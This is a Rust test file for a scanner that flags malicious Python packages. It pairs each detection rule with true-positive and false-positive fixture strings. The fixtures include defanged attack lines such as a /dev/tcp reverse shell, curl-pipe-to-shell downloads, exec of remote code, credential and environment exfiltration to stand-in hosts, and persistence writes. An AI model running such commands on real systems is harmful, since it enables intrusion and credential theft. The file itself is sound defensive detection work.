//! Every rule of `extension/findings/rules.toml` has a true-positive and a
//! false-positive fixture here. Fixtures are defanged: endpoints are `.invalid`
//! or documentation addresses (RFC 2606 / RFC 5737), secrets are obviously
//! fake, and nothing here is a working payload; they are strings that a
//! scanner reads, never code that anything runs.

use squatch::findings::{scan_source_with_floor, Role, RuleSet, Severity};

struct Case {
    id: &'static str,
    role: Role,
    tp: String,
    fp: String,
}

fn case(id: &'static str, role: Role, tp: &str, fp: &str) -> Case {
    Case {
        id,
        role,
        tp: tp.to_string(),
        fp: fp.to_string(),
    }
}

/// A deterministic base64-looking blob (not data of anything).
fn fake_blob(len: usize) -> String {
    const ALPHA: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut x: u32 = 12345;
    (0..len)
        .map(|_| {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
            ALPHA[((x >> 16) % 64) as usize] as char
        })
        .collect()
}

fn filler(n: usize) -> String {
    (0..n).map(|i| format!("value_{i} = {i}\n")).collect()
}

fn cases() -> Vec<Case> {
    use Role::*;
    let m = Module;
    let i = Install;
    vec![
        case(
            "cred-discord-grabber",
            m,
            r#"regex = r"dQw4w9WgXcQ:[^\"]*""#,
            r#"token = getenv("TQDM_DISCORD_TOKEN")"#,
        ),
        case(
            "exfil-discord-webhook",
            m,
            r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#,
            r#"DOCS = "https://discord.com/developers/docs""#,
        ),
        case(
            "exfil-app-host",
            m,
            r#"requests.post("https://collector-0000.herokuapp.com/c", json=dict(os.environ))"#,
            r#"DOCS = "https://devcenter.heroku.com/articles/getting-started""#,
        ),
        case("cred-env-token", m, r#"key = os.environ["AWS_SECRET_ACCESS_KEY"]"#, "def load(hf_token=None, azure_client_secret=None):"),
        case(
            "cred-env-name",
            m,
            r#"NAMES = ["AWS_ACCESS_KEY_ID", "HF_TOKEN"]"#,
            "hf_token = None",
        ),
        case("cred-file", m, r#"creds = open(os.path.expanduser("~/.aws/credentials")).read()"#, "from sympy.crypto import kid_rsa_private_key"),
        case("cred-env-dump", m, "payload = json.dumps(dict(os.environ))", r#"home = os.environ.get("HOME")"#),
        case("cred-browser-store", m, r#"path = local + "\\Google\\Chrome\\User Data\\Default\\Login Data""#, r#"label = "login data""#),
        case("exfil-webhook", m, r#"HOOK = "https://webhook.site/00000000-fake""#, r#"DOCS = "https://example.com/webhooks/docs""#),
        case("exfil-discord-webhook", m, r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#, r#"DOCS = "https://discord.com/developers/docs""#),
        case("cred-discord-grabber", m, r#"pattern = r"dQw4w9WgXcQ:[^"]*""#, r#"token = getenv("TQDM_DISCORD_TOKEN")"#),
        case("exfil-telegram-bot", m, r#"u = "https://api.telegram.org/bot123456789:FAKEexampleTOKEN/sendMessage""#, "API = 'https://api.telegram.org/bot'"),
        // The token pasted into an f-string is the same URL.
        case("exfil-telegram-bot", m, r#"requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data=d)"#, r#"DOCS = "https://core.telegram.org/bots/api""#),
        case(
            "cred-wallet-send",
            m,
            r#"requests.post(URL, json={"private_key": key, "address": addr})"#,
            r#"signed = account.sign_transaction(tx, private_key=key)"#,
        ),
        case("cred-wallet-material", m, r#"phrase = wallet["seed_phrase"]"#, r#"phrase = "hello world""#),
        case(
            "combo-wallet-exfiltration",
            m,
            "def f(w):\n    words = w.mnemonic\n    requests.post(URL, data=words)\n",
            "def f(w):\n    words = w.mnemonic\n    return words\n\ndef g():\n    requests.post(URL, data=d)\n",
        ),
        case("persist-shortcut", m, r#"shell = win32com.client.Dispatch("WScript.Shell")"#, r#"shell = os.environ.get("SHELL")"#),
        case("persist-browser-flag", m, r#"args.append("--load-extension=" + ext)"#, r#"args.append("--disable-extensions")"#),
        case(
            "combo-browser-extension-shortcut",
            m,
            "def hijack(lnk):\n    s = shell.CreateShortCut(lnk)\n    s.Arguments = \"--load-extension=\" + ext\n    s.save()\n",
            "def launch(ext):\n    return browser.launch(args=[\"--load-extension=\" + ext])\n",
        ),
        case("install-network-import", i, "import urllib.request", "import setuptools"),
        case("exfil-dns-built", m, r#"socket.gethostbyname(host + ".collector.invalid")"#, "ip = socket.gethostbyname(socket.gethostname())"),
        case("exfil-raw-ip-socket", m, r#"s.connect(("203.0.113.7", 9090))"#, r#"s.connect(("127.0.0.1", 9090))"#),
        case("obf-encoded-url", m, r#"u = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZA==")"#, r#"CERT = "MIIBaHR0cHM6Ly9jcmwuZXhhbXBsZQ==""#),
        case("obf-exec-alias", m, "_run=exec; _run(payload)", "executor = exec_pool()"),
        case(
            "combo-install-network-process",
            i,
            "class Up(install):\n    def run(self):\n        r = requests.get(U)\n        open(\"x.py\", \"wb\").write(r.content)\n        subprocess.check_call([sys.executable, \"x.py\"])\n",
            &format!("def fetch():\n    urllib.request.urlretrieve(FONT, \"f.ttf\")\n{}def version():\n    return subprocess.check_output([\"git\", \"describe\"])\n", filler(100)),
        ),
        case(
            "combo-install-hook-dns",
            i,
            "class P(install):\n    def run(self):\n        socket.gethostbyname(\"x.oob.invalid\")\n",
            "class P(build_py):\n    def run(self):\n        socket.gethostbyname(\"x.oob.invalid\")\n",
        ),
        case("exfil-http", m, "requests.post(URL, data=d)", "session_id = make_post_id()"),
        case("exfil-socket", m, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)", "kind = socket.SOCK_STREAM"),
        case("exfil-dns", m, r#"socket.gethostbyname(chunk + ".collector.invalid")"#, "from typing import Mapping"),
        case("exfil-dns-shell", m, r#"os.system("ping %s" % domain)"#, r#"mapping = {"a": 1}"#),
        case("exfil-mail-ftp", m, r#"server = smtplib.SMTP("mail.invalid", 587)"#, "import email.message"),
        case("exfil-raw-ip-url", m, r#"URL = "http://203.0.113.7:8080/upload""#, r#"URL = "http://127.0.0.1:8080/health""#),
        case("recon-host-info", m, "user = getpass.getuser()", "name = get_user_name()"),
        case("recon-ip-lookup", m, r#"ip = requests.get("https://api.ipify.org").text"#, "ip = socket.inet_aton(addr)"),
        case("dl-shell-pipe", m, r#"os.system("curl -s https://payload.invalid/x.sh | sh")"#, r#"os.system("curl https://sh.rustup.rs -sSf | sh")"#),
        case("dl-tool", m, r#"os.system("wget https://payload.invalid/b -O /tmp/b")"#, r#"print("download it with your browser")"#),
        case("proc-make-executable", m, "os.chmod(p, st.st_mode | stat.S_IEXEC)", "os.chmod(p, 0o644)"),
        case("dl-executable-url", m, r#"url = "https://payload.invalid/update.exe""#, r#"url = "https://github.com/org/tool/releases/download/v1/tool.exe""#),
        case("dl-exec-remote", m, r#"exec(requests.get("https://payload.invalid/stage2").text)"#, "value = ast.literal_eval(requests_text)"),
        case("dl-content-fetch", m, "body = urlopen(url).read()", "body = open(path).read()"),
        case("obf-exec-decode", m, "exec(base64.b64decode(BLOB))", r#"pattern = re.compile(r"[\x00-\x1f]")"#),
        case("obf-process-decode", m, "os.system(base64.b64decode(cmd))", "os.system(cmd)"),
        case("obf-xor-decode", m, "out += chr(ord(c) ^ ord(k))", "out += chr(ord(c) + 1)"),
        case("obf-chr-join", m, "s = ''.join([chr(c) for c in CODES])", "s = ''.join(parts)"),
        case("obf-globals-indirection", m, "f = getattr(globals()[name], attr)", "f = getattr(module, attr)"),
        // A lookup by a plain constant name hides nothing.
        case("obf-globals-indirection", m, "f = globals()[''.join(['ex', 'ec'])]", r#"f = getattr(globals()["np"], "float64")"#),
        case("obf-js-mangled", m, "JS = 'var _0x327ff6=_0x11d4;'", "JS = 'var x = 1;'"),
        case("obf-decode", m, "data = base64.b64decode(s)", "data = base64.b64encode(s)"),
        case("obf-exec", m, "exec(code)", "cursor.execute(sql)"),
        case("obf-builtins-indirection", m, r#"f = getattr(__builtins__, "ex" + "ec")"#, "if inspect.isclass(getattr(builtins, name, None)):"),
        case("obf-lambda-packer", m, "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))", "key = lambda item: item[0]"),
        case("obf-pyarmor", m, "from pytransform import pyarmor_runtime", "armor = load_armor_config()"),
        case("obf-powershell-encoded", m, r#"subprocess.Popen("powershell -EncodedCommand RkFLRQ==")"#, r#"cmd = ["powershell", "-NoProfile", "-Command", "Get-Date"]"#),
        Case {
            id: "obf-long-blob",
            role: m,
            tp: format!("BLOB = \"{}\"", fake_blob(600)),
            fp: format!("PAD = \"{}\"\nTEXT = \"{}\"", "A".repeat(600), "lorem ipsum ".repeat(60)),
        },
        Case {
            id: "obf-hex-escapes",
            role: m,
            tp: format!("s = \"{}\"", "\\x65\\x78".repeat(25)),
            fp: "s = \"\\x00\\x01\\x02\"".to_string(),
        },
        case("obf-bidi-characters", m, "access = \"user\u{202e} \u{2066}// admin\"", "name = \"caf\u{e9}\""),
        case("proc-spawn", m, r#"subprocess.Popen(["ls"])"#, "popen_count = 0"),
        case("proc-hidden", m, "subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)", "subprocess.Popen(cmd)"),
        case("proc-reverse-shell", m, r#"os.system("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1")"#, r#"os.system("bash -c true")"#),
        case("proc-socket-dup2", m, "os.dup2(s.fileno(), 0)", "os.dup2(log_fd, 1)"),
        case("proc-runtime-pip", m, r#"subprocess.call([sys.executable, "-m", "pip", "install", "x"])"#, "import pipes"),
        case("fs-write", m, "f.write(data)", "data = f.read()"),
        case("persist-pth-write", m, r#"open(os.path.join(site, "evil_init.pth"), "w").write(line)"#, r#"paths = glob.glob("*.pth")"#),
        case("persist-sitecustomize-write", m, r#"shutil.copy(src, os.path.join(site, "sitecustomize.py"))"#, r#"doc = "see sitecustomize.py""#),
        case("persist-preload", m, r#"open("/etc/ld.so.preload", "a")"#, "conf = read_ld_so_conf()"),
        case("persist-ld-preload-env", m, r#"env["LD_PRELOAD"] = lib"#, r#"env["LD_LIBRARY_PATH"] = lib"#),
        case("persist-system", m, r#"os.system("crontab -l")"#, r#"schedule = "every hour""#),
        case("persist-system-write", m, r#"open(os.path.expanduser("~/.bashrc"), "a").write(line)"#, r#"rc = open(os.path.expanduser("~/.bashrc"), "r")"#),
        case("persist-windows-run", m, r#"key = r"Software\Microsoft\Windows\CurrentVersion\Run""#, r#"key = r"Software\Microsoft\Windows\CurrentVersion""#),
        // A registry write that is not an autostart key is a look-alike.
        case("persist-windows-run", m, r#"winreg.SetValueEx(winreg.OpenKey(HKCU, r"Software\Microsoft\Windows\CurrentVersion\Run"), "u", 0, 1, p)"#, r#"winreg.SetValueEx(settings_key, "Theme", 0, winreg.REG_SZ, value)"#),
        case("persist-browser-extension", m, r#"s = shell.CreateShortCut(lnk); s.Arguments = "--load-extension=" + ext_dir"#, r#"options.add_argument("--load-extension=" + ext_dir)"#),
        case("persist-modprobe", m, r#"open("/etc/modprobe.d/nvidia.conf", "w")"#, r#"subprocess.run(["modprobe", "-n", "nvidia"])"#),
        case("gpu-driver-path", m, r#"v = open("/proc/driver/nvidia/version").read()"#, "import pynvml"),
        case("gpu-driver-write", m, r#"open("/usr/share/vulkan/icd.d/nvidia_icd.json", "w").write(x)"#, r#"open("/usr/share/vulkan/icd.d/nvidia_icd.json", "r")"#),
        case("gpu-cuda-injection", m, r#"os.environ["CUDA_INJECTION64_PATH"] = "/tmp/libfake.so""#, r#"os.environ["CUDA_VISIBLE_DEVICES"] = "0""#),
        case("mining", m, r#"pool = "stratum+tcp://pool.invalid:3333""#, r#"strategy = "tcp""#),
        case("install-suspicious-import", i, "import socket", "import setuptools"),
        case("hook-install-override", i, "class PostInstall(install):", "class BuildExt(build_ext):"),
        // Role-restricted rules: the look-alike is the same line where it does not run at install.
        Case {
            id: "hook-cmdclass",
            role: i,
            tp: r#"setup(cmdclass={"build_ext": BuildExt})"#.into(),
            fp: String::new(),
        },
        case("hook-in-tree-backend", Config, r#"backend-path = ["_build"]"#, r#"build-backend = "setuptools.build_meta""#),
        Case {
            id: "install-network",
            role: i,
            tp: r#"urlopen("https://collector.invalid")"#.into(),
            fp: String::new(),
        },
        case(
            "combo-credential-exfiltration",
            m,
            "k = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\nrequests.post(\"https://collector.invalid\", data=k)\n",
            &format!("k = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n{}requests.post(\"https://api.example.com\", data=d)\n", filler(200)),
        ),
        case("combo-endpoint-send", m, "h = \"https://webhook.site/0000\"\nrequests.post(h, json=d)\n", "h = \"https://webhook.site/0000\"\n"),
        case("combo-environment-exfiltration", m, "d = dict(os.environ)\nrequests.post(U, json=d)\n", "env = os.environ.copy()\nsubprocess.run(cmd, env=env)\n"),
        case(
            "combo-dns-beacon",
            m,
            "h = os.uname().nodename\nos.system(\"ping \" + h + \".collector.invalid\")\n",
            "h = os.uname().nodename\nprint(h)\n",
        ),
        case("combo-host-beacon", m, "h = socket.gethostname()\nurlopen(\"https://collector.invalid/?h=\" + h)\n", "h = socket.gethostname()\nlogger.info(h)\n"),
        case(
            "combo-download-execute",
            m,
            "urlretrieve(\"https://payload.invalid/b\", \"/tmp/b\")\nos.system(\"/tmp/b\")\n",
            &format!("urlretrieve(u, \"data.csv\")\n{}subprocess.run([\"ls\"])\n", filler(30)),
        ),
        case("combo-decode-execute", m, "code = base64.b64decode(BLOB)\nexec(code)\n", "code = base64.b64decode(BLOB)\nprint(len(code))\n"),
        case(
            "combo-install-hook-network",
            i,
            "class P(install):\n    def run(self):\n        urlopen(\"https://collector.invalid\")\n",
            "class P(build_py):\n    def run(self):\n        urlopen(\"https://collector.invalid\")\n",
        ),
        case(
            "combo-install-hook-process",
            i,
            "class P(install):\n    def run(self):\n        subprocess.call([\"sh\", \"x.sh\"])\n",
            "version = subprocess.check_output([\"git\", \"describe\"])\n",
        ),
        case(
            "combo-gpu-persistence",
            m,
            "p = \"/etc/nvidia-container-runtime/config.toml\"\nwith open(p, \"a\") as f:\n    f.write(hook)\n",
            &format!("p = \"/proc/driver/nvidia/version\"\n{}f.write(x)\n", filler(20)),
        ),
    ]
}

fn ids(src: &str, role: Role) -> Vec<String> {
    scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), role, Severity::Info)
        .findings
        .into_iter()
        .map(|f| f.rule_id)
        .collect()
}

#[test]
fn every_rule_and_combo_has_fixtures() {
    let cases = cases();
    let missing: Vec<&str> = RuleSet::builtin()
        .ids()
        .into_iter()
        .filter(|id| !cases.iter().any(|c| c.id == *id))
        .collect();
    assert!(missing.is_empty(), "rules without fixtures: {missing:?}");
}

#[test]
fn true_positives_fire() {
    let mut failures = Vec::new();
    for c in cases() {
        let got = ids(&c.tp, c.role);
        if !got.iter().any(|g| g == c.id) {
            failures.push(format!("{}: {:?} gave {got:?}", c.id, c.tp));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn false_positives_do_not_fire() {
    let mut failures = Vec::new();
    for c in cases() {
        if c.fp.is_empty() {
            continue;
        }
        let got = ids(&c.fp, c.role);
        if got.iter().any(|g| g == c.id) {
            failures.push(format!("{}: {:?} gave {got:?}", c.id, c.fp));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn role_restricted_rules_stay_in_their_role() {
    // The true positives of install-only rules do not fire in a plain module.
    for id in ["hook-cmdclass", "install-network", "hook-install-override"] {
        let c = cases().into_iter().find(|c| c.id == id).unwrap();
        assert!(
            !ids(&c.tp, Role::Module).iter().any(|g| g == id),
            "{id} fired in a module"
        );
    }
    // Build configuration is not code: CI snippets in pyproject.toml do not fire.
    let ci = r#"before-build = "curl https://payload.invalid/x.sh | sh""#;
    assert!(ids(ci, Role::Config).is_empty());
}

#[test]
fn comments_and_calls_with_a_space_are_handled() {
    assert!(ids("# exec(base64.b64decode(x))", Role::Install).is_empty());
    assert!(ids("body = urlopen (url).read ()", Role::Module)
        .iter()
        .any(|g| g == "dl-content-fetch"));
}

#[test]
fn severity_weighs_where_code_runs() {
    let src = r#"urlopen("https://collector.invalid/?u=" + getpass.getuser())"#;
    let sev = |role| {
        scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), role, Severity::Info)
            .findings
            .iter()
            .find(|f| f.rule_id == "combo-host-beacon")
            .map(|f| f.severity)
    };
    // The line carries both tags but from two different rules: a beacon.
    assert_eq!(sev(Role::Install), Some(Severity::High));
    assert_eq!(sev(Role::Peripheral), Some(Severity::Low));
    // A long SDK module weighs a co-occurrence one level lower than a short
    // one (inside a function: at module level the send runs on import).
    let long = format!("{}def f():\n    {src}\n", filler(500));
    let f = scan_source_with_floor(
        RuleSet::builtin(),
        long.as_bytes(),
        Role::Module,
        Severity::Info,
    );
    let beacon = f
        .findings
        .iter()
        .find(|f| f.rule_id == "combo-host-beacon")
        .unwrap();
    assert_eq!(beacon.severity, Severity::Medium);
}

#[test]
fn reading_hf_token_like_huggingface_hub_is_not_high() {
    let src = "import os\n\ndef get_token():\n    token = os.environ.get(\"HF_TOKEN\")\n    if token is None:\n        path = os.path.expanduser(\"~/.cache/huggingface/token\")\n        if os.path.exists(path):\n            token = open(path).read().strip()\n    return token\n";
    for role in [Role::Module, Role::Import] {
        let scan = squatch::findings::scan_source(RuleSet::builtin(), src.as_bytes(), role);
        assert!(
            scan.findings.iter().all(|f| f.severity < Severity::High),
            "{role:?}: {:?}",
            scan.findings
        );
    }
}

#[test]
fn evidence_never_carries_a_secret() {
    let src = "k = 'AKIAIOSFODNN7EXAMPLE'\ns = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\nt = 'hf_FAKEexampleTOKENabcdefghijklmnopqrst'\nrequests.post('https://collector.invalid', data={'AWS_ACCESS_KEY_ID': k, 'AWS_SECRET_ACCESS_KEY': s, 'HF_TOKEN': t})\n";
    let scan = scan_source_with_floor(
        RuleSet::builtin(),
        src.as_bytes(),
        Role::Install,
        Severity::Info,
    );
    assert!(!scan.findings.is_empty());
    for f in &scan.findings {
        for secret in ["AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "hf_FAKEexample"] {
            assert!(
                !f.evidence.contains(secret),
                "{}: {}",
                f.rule_id,
                f.evidence
            );
        }
    }
}

#[test]
fn binary_and_huge_inputs_are_bounded() {
    let mut bin = b"exec(base64.b64decode(x))\n".to_vec();
    bin.push(0);
    let scan = squatch::findings::scan_source(RuleSet::builtin(), &bin, Role::Install);
    assert!(scan.binary && scan.findings.is_empty());
    let huge = "x = 1\n".repeat(1_000_000);
    let scan = squatch::findings::scan_source(RuleSet::builtin(), huge.as_bytes(), Role::Module);
    assert!(scan.truncated);
}

fn max_severity(src: &str, role: Role, id: &str) -> Option<Severity> {
    scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), role, Severity::Info)
        .findings
        .iter()
        .filter(|f| f.rule_id == id)
        .map(|f| f.severity)
        .max()
}

#[test]
fn prose_weighs_low_unless_it_runs() {
    // An install hint in an error message and a usage example in a docstring.
    let prose = "def need_tool():\n    \"\"\"Install with:\n\n        curl -s https://payload.invalid/i.sh | sh\n    \"\"\"\n    raise RuntimeError(\"run: curl -s https://payload.invalid/i.sh | sh\")\n";
    assert_eq!(
        max_severity(prose, Role::Install, "dl-shell-pipe"),
        Some(Severity::Low)
    );
    // The same text as code, and as a string handed to exec, stays critical.
    let code = "def f():\n    os.system(\"curl -s https://payload.invalid/i.sh | sh\")\n";
    assert_eq!(
        max_severity(code, Role::Install, "dl-shell-pipe"),
        Some(Severity::Critical)
    );
    let run = "exec(\"\"\"\nos.system('curl -s https://payload.invalid/i.sh | sh')\n\"\"\")\n";
    assert_eq!(
        max_severity(run, Role::Install, "dl-shell-pipe"),
        Some(Severity::Critical)
    );
    // A blob parked in a docstring is prose unless it decodes to code.
    use base64::Engine;
    let payload = "import os\n".repeat(60);
    let enc = base64::engine::general_purpose::STANDARD.encode(payload.as_bytes());
    let hidden = format!("def f():\n    \"\"\"\n    {enc}\n    \"\"\"\n");
    assert_eq!(
        max_severity(&hidden, Role::Install, "obf-long-blob"),
        Some(Severity::High)
    );
    let pic = base64::engine::general_purpose::STANDARD.encode(
        (0..600u32)
            .map(|i| (i * 7 % 251) as u8)
            .collect::<Vec<u8>>(),
    );
    let image = format!("def f():\n    \"\"\"\n    {pic}\n    \"\"\"\n");
    assert_eq!(
        max_severity(&image, Role::Install, "obf-long-blob"),
        Some(Severity::Low)
    );
}

#[test]
fn combos_need_two_distinct_hits_in_one_scope() {
    // Credential in one function, a request in another, close together.
    let split = "def token():\n    return os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n\ndef ping():\n    requests.post(\"https://collector.invalid\", data=d)\n";
    assert_eq!(
        max_severity(split, Role::Install, "combo-credential-exfiltration"),
        None
    );
    let same = "def steal():\n    k = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n    requests.post(\"https://collector.invalid\", data=k)\n";
    assert_eq!(
        max_severity(same, Role::Install, "combo-credential-exfiltration"),
        Some(Severity::Critical)
    );
    // One IP-lookup constant carries host_info and network: one hit, no beacon.
    let one = "IP_SERVICE = \"https://api.ipify.org\"\n";
    assert_eq!(max_severity(one, Role::Install, "combo-host-beacon"), None);
}

#[test]
fn a_credential_sent_to_its_own_vendor_is_not_exfiltration() {
    let sdk = "def complete(prompt):\n    key = os.environ[\"OPENAI_API_KEY\"]\n    return requests.post(\"https://api.openai.com/v1/chat/completions\", headers={\"Authorization\": \"Bearer \" + key}, json=prompt)\n";
    assert_eq!(
        max_severity(sdk, Role::Import, "combo-credential-exfiltration"),
        None
    );
    let gh = "API = \"https://api.github.com\"\n\ndef releases(repo):\n    token = os.environ.get(\"GITHUB_TOKEN\")\n    return requests.get(API + \"/repos/\" + repo, headers={\"Authorization\": token})\n";
    assert_eq!(
        max_severity(gh, Role::Import, "combo-credential-exfiltration"),
        None
    );
    // The same key to any other host is exfiltration.
    let theft = sdk.replace("api.openai.com", "collector.invalid");
    assert_eq!(
        max_severity(&theft, Role::Import, "combo-credential-exfiltration"),
        Some(Severity::Critical)
    );
    // A vendor host named only in a docstring does not make it the vendor's.
    let doc = "\"\"\"Talks to https://api.openai.com.\"\"\"\n\ndef f():\n    key = os.environ[\"OPENAI_API_KEY\"]\n    requests.post(URL, data=key)\n";
    assert_eq!(
        max_severity(doc, Role::Import, "combo-credential-exfiltration"),
        Some(Severity::Critical)
    );
}

#[test]
fn module_level_sends_weigh_as_import_code() {
    let import_time = "import requests\nrequests.post(\"http://203.0.113.9:8080/c\", data=open(\"/etc/hostname\").read())\n";
    assert_eq!(
        max_severity(import_time, Role::Module, "exfil-raw-ip-url"),
        Some(Severity::High)
    );
    let in_function = "import requests\n\ndef report():\n    requests.post(\"http://203.0.113.9:8080/c\", data=d)\n";
    assert_eq!(
        max_severity(in_function, Role::Module, "exfil-raw-ip-url"),
        Some(Severity::Low)
    );
    let main_guard =
        "if __name__ == \"__main__\":\n    requests.post(\"http://203.0.113.9:8080/c\", data=d)\n";
    assert_eq!(
        max_severity(main_guard, Role::Module, "exfil-raw-ip-url"),
        Some(Severity::Low)
    );
}

#[test]
fn setup_py_build_time_downloads_are_medium() {
    let fonts = "import urllib.request\nfrom setuptools.command.install import install\n\nclass Fetch(install):\n    def run(self):\n        urllib.request.urlretrieve(\"https://fonts.invalid/font.ttf\", \"pkg/font.ttf\")\n        install.run(self)\n";
    let worst = scan_source_with_floor(
        RuleSet::builtin(),
        fonts.as_bytes(),
        Role::Install,
        Severity::Info,
    )
    .findings
    .iter()
    .map(|f| f.severity)
    .max();
    assert_eq!(worst, Some(Severity::Medium));
    // With execution of the download it is high.
    let run = fonts.replace(
        "        install.run(self)\n",
        "        os.system(\"pkg/font.ttf\")\n        install.run(self)\n",
    );
    let worst = scan_source_with_floor(
        RuleSet::builtin(),
        run.as_bytes(),
        Role::Install,
        Severity::Info,
    )
    .findings
    .iter()
    .map(|f| f.severity)
    .max();
    assert!(worst >= Some(Severity::High), "{worst:?}");
}

#[test]
fn held_text_that_never_runs_is_prose() {
    // Documentation held in a module constant (an Ansible module's
    // EXAMPLES) and a shell script held for a remote sandbox: prose.
    let docs = "EXAMPLES = r'''\n- name: bootstrap\n  win_shell: Invoke-Expression ((New-Object Net.WebClient).DownloadString('https://payload.invalid/i.ps1'))\n'''\n\ndef main():\n    module = AnsibleModule(argument_spec={})\n";
    assert_eq!(
        max_severity(docs, Role::Module, "dl-shell-pipe"),
        Some(Severity::Low)
    );
    let remote = "INSTALL = r\"\"\"\nset -e\ncurl -fsSL https://tools.invalid/node.tar.gz -o /tmp/n.tgz\nchmod 755 /tmp/n\n\"\"\"\n\nasync def ensure(runtime):\n    await ensure_installed(runtime, install=INSTALL)\n";
    assert_eq!(
        max_severity(remote, Role::Module, "combo-download-execute"),
        None
    );
    // The same text handed to a shell, written to disk, or run through a
    // function of this file that spawns: code.
    for sink in [
        "def go():\n    os.system(INSTALL)\n",
        "def go():\n    subprocess.run(\n        [\"bash\", \"-c\",\n         INSTALL])\n",
        "def go(p):\n    open(p, \"w\").write(INSTALL)\n",
        "def _sh(s):\n    return subprocess.call(s, shell=True)\n\ndef go():\n    _sh(INSTALL)\n",
        "def go(cmd=None):\n    run = cmd if cmd is not None else INSTALL\n    return subprocess.Popen(\n        [\"sh\", \"-c\", run])\n",
    ] {
        let src = format!("{}\n{sink}", remote.split("\n\nasync").next().unwrap());
        assert_eq!(
            max_severity(&src, Role::Install, "combo-download-execute"),
            Some(Severity::High),
            "{sink}"
        );
    }
    // A PowerShell template filled in and returned (user data for another
    // host), built from a run of f-strings: prose.
    let template = "def wrapper(url):\n    script = (\n        f\"$wc=[System.Net.WebClient]::new() ; \"\n        f\"Invoke-Expression ($wc.DownloadString('{url}')) ; \"\n    )\n    return script\n";
    assert_eq!(
        max_severity(template, Role::Module, "dl-shell-pipe"),
        Some(Severity::Low)
    );
    let ran = template.replace(
        "    return script\n",
        "    subprocess.run([\"powershell\", \"-Command\", script])\n",
    );
    assert_eq!(
        max_severity(&ran, Role::Import, "dl-shell-pipe"),
        Some(Severity::Critical)
    );
    // A one-line string assigned to a name stays code (a URL constant).
    let url = "URL = \"https://payload.invalid/drop.exe\"\n";
    assert_eq!(
        max_severity(url, Role::Module, "dl-executable-url"),
        Some(Severity::High)
    );
}

#[test]
fn a_host_in_a_data_list_is_not_a_use() {
    let blocklist = "DOMAINS = {\n    'mailinator.com',\n    'webhook.site', 'yopmail.com',\n}\n";
    assert_eq!(
        max_severity(blocklist, Role::Import, "exfil-webhook"),
        Some(Severity::Low)
    );
    for used in [
        "HOOKS = [\n    'https://webhook.site/0000-fake',\n]\n",
        "requests.post('https://webhook.site/0000-fake', data=d)\n",
    ] {
        assert_eq!(
            max_severity(used, Role::Import, "exfil-webhook"),
            Some(Severity::High),
            "{used}"
        );
    }
}

#[test]
fn build_tool_spawns_are_build_steps() {
    let build = "from setuptools.command.egg_info import egg_info\nfrom platform import system\n\nif system() != \"Windows\":\n    cflags = [\"-std=c11\"]\n\nclass EggInfo(egg_info):\n    def run(self):\n        v = subprocess.check_output(\n            [\"sw_vers\", \"-productVersion\"], text=True)\n        subprocess.check_call([\"/usr/bin/xcrun\", \"-sdk\", \"macosx\"])\n        os.system(\"make all\")\n        egg_info.run(self)\n";
    assert_eq!(
        max_severity(build, Role::Install, "combo-install-hook-process"),
        None
    );
    // Anything else spawned, a build tool behind shell operators, or a
    // command that is not a literal: a process.
    for spawn in [
        "        subprocess.Popen([\"python\", \"-c\", PAYLOAD])\n",
        "        os.system(\"make all && curl -s https://payload.invalid/x | sh\")\n",
        "        subprocess.run([exe, \"--quiet\"])\n",
        "        os.system(cmd)\n",
    ] {
        let src = build.replace(
            "        egg_info.run(self)\n",
            &format!("{spawn}        egg_info.run(self)\n"),
        );
        assert_eq!(
            max_severity(&src, Role::Install, "combo-install-hook-process"),
            Some(Severity::High),
            "{spawn}"
        );
    }
}

#[test]
fn loopback_curl_downloads_nothing() {
    let health = "SCRIPT = [\"sh\", \"-c\", r\"\"\"\nsetsid \"$BIN\" gateway run &\nwhile ! curl -fsS \"http://127.0.0.1:$port/readyz\"; do sleep 1; done\n\"\"\"]\n";
    assert_eq!(
        max_severity(health, Role::Module, "combo-download-execute"),
        None
    );
    assert_eq!(max_severity(health, Role::Module, "dl-tool"), None);
    let fetch = health.replace("http://127.0.0.1:$port/readyz", "https://payload.invalid/x");
    assert_eq!(
        max_severity(&fetch, Role::Module, "combo-download-execute"),
        Some(Severity::High)
    );
}

#[test]
fn a_download_pinned_to_its_digest_is_medium() {
    let pinned = "CHECKSUMS = {\n    \"https://cdn.invalid/frpc_windows_amd64.exe\": \"14bc0ea470be5d67d79a07412bd21de8a0a179c6ac1116d7764f68e942dc9ceb\",\n}\n";
    assert_eq!(
        max_severity(pinned, Role::Module, "dl-executable-url"),
        Some(Severity::Medium)
    );
    let bare = "URLS = {\n    \"https://cdn.invalid/frpc_windows_amd64.exe\": \"frpc\",\n}\n";
    assert_eq!(
        max_severity(bare, Role::Module, "dl-executable-url"),
        Some(Severity::High)
    );
}

#[test]
fn an_environment_copied_for_a_child_is_not_a_dump() {
    let child = "def start(port):\n    s = socket.socket()\n    s.bind((\"127.0.0.1\", port))\n    env = os.environ.copy()\n    env[\"PORT\"] = str(port)\n    return subprocess.Popen([node, \"server.js\"], env=env)\n";
    assert_eq!(
        max_severity(child, Role::Import, "combo-environment-exfiltration"),
        None
    );
    let sent = "def start(port):\n    s = socket.socket()\n    env = os.environ.copy()\n    s.sendall(json.dumps(env).encode())\n";
    assert_eq!(
        max_severity(sent, Role::Import, "combo-environment-exfiltration"),
        Some(Severity::High)
    );
}

#[test]
